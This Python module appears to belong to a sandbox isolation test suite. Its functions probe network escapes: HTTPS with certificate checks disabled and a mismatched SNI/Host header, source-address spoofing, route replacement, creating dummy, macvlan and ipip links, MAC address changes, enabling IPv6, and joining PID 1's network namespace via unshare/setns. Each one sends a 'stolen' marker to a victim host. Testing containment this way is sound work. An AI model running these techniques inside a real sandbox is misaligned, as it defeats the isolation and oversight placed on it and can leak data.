"""Attacks on what is around the sandbox, and by changes of its own network."""

from __future__ import annotations

import ctypes
import os
import socket
import ssl
import subprocess
from contextlib import suppress

from . import wire

_CLONE_NEWNET = 0x40000000


def url(address: str, name: str, host: str, path: str, headers: tuple[str, ...] = ()) -> bool:
    """An HTTPS request to an address: a handshake for `name`, then any `host`. True for a 2xx."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with (
        wire.connect(address, 443) as plain,
        context.wrap_socket(plain, server_hostname=name) as client,
    ):
        client.sendall(wire.get(host, "Connection: close", *headers, path=path))
        return wire.listen(client)[8:10] == b" 2"


def new_address(address: str, victim: str) -> None:
    """Take another address, and send from it."""
    link = wire.interface()
    _ip(f"address add {address}/32 dev {link}")
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.bind((address, 0))
            client.sendto(b"stolen", (victim, 9999))
    finally:
        _ip(f"address delete {address}/32 dev {link}")


def new_route(victim: str, gateway: str) -> bool:
    """Another way to a victim: by any gateway, and as a neighbour on the link."""
    link = wire.interface()
    try:
        for way in (f"via {gateway} dev {link} onlink", f"dev {link}"):
            _ip(f"route replace {victim}/32 {way}")
            with suppress(OSError):
                if wire.datagram(victim, 9999, b"stolen"):
                    return True
    finally:
        _ip(f"route delete {victim}/32")
    return False


def new_links(victim: str) -> bool:
    """Links of one's own, IPv6 switched on, the link's hardware address changed."""
    link = wire.interface()
    _ip("link add attack0 type dummy")
    _ip(f"link add link {link} name attack1 type macvlan")
    _ip(f"link add attack2 type ipip remote {victim} local any dev {link}")
    _ip(f"link set {link} address 02:53:00:00:00:99")
    with suppress(OSError), open("/proc/sys/net/ipv6/conf/all/disable_ipv6", "w") as switch:
        switch.write("0")
    try:
        return bool(wire.datagram(victim, 9999, b"stolen"))
    finally:
        for index in range(3):
            _ip(f"link delete attack{index}")


def new_namespace(victim: str) -> bool:
    """A network namespace of one's own, in a user namespace where one is root."""
    done = subprocess.run(
        ["unshare", "-Urn", "ip", "link", "set", "lo", "up"], check=False, capture_output=True
    )
    if done.returncode == 0:
        with suppress(OSError):
            ctypes.CDLL(None).setns(os.open("/proc/1/ns/net", os.O_RDONLY), _CLONE_NEWNET)
    return bool(wire.datagram(victim, 9999, b"stolen"))


def _ip(command: str) -> None:
    """Where it is not allowed, what follows goes the ordinary way."""
    subprocess.run(["ip", *command.split()], check=False, capture_output=True, timeout=10)
